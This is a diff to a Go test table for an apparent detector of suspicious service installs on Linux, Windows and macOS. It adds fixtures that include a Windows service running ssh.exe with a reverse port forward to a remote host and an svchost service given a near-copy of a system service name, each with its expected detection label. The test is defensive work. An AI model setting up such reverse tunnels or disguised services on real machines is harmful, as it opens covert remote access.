@@ -143,6 +143,8 @@ func TestFeatures(t *testing.T) {
 		{"a program of systemd's own", Install{Name: "systemd-resolved.service", ImagePath: "/usr/lib/systemd/systemd-resolved", Kind: Systemd}, ""},
 		{"a program among units", Install{Name: "agent.service", ImagePath: "/usr/lib/systemd/system/agent", Kind: Systemd}, "odd_directory"},
 		{"a port of another host forwarded", Install{Name: "link.service", ImagePath: "/usr/bin/ssh -NT -R 2222:localhost:22 al@198.51.100.4", Kind: Systemd}, "tunnel_tool"},
+		{"the same on Windows", Install{Name: "Link", ImagePath: `C:\Windows\System32\OpenSSH\ssh.exe -N -R 2222:127.0.0.1:22 al@198.51.100.4`, Type: 0x10}, "tunnel_tool"},
+		{"svchost with nearly a service's name", Install{Name: "wuausrv", ImagePath: `%SystemRoot%\System32\svchost.exe -k netsvcs`, Type: 0x20}, "near_system_name"},
 		{"ssh without forwarding", Install{Name: "link.service", ImagePath: "/usr/bin/ssh -N al@198.51.100.4", Kind: Systemd}, ""},
 		{"a path with launchd's usual blank", Install{Name: "com.acme.agent", ImagePath: "/Users/al/Library/Application Support/.acme/agent --run", Kind: Launchd}, "hidden_file"},
 		{"another such path", Install{Name: "com.acme.agent", ImagePath: "/Library/Application Support/Acme/agent", Kind: Launchd}, ""},
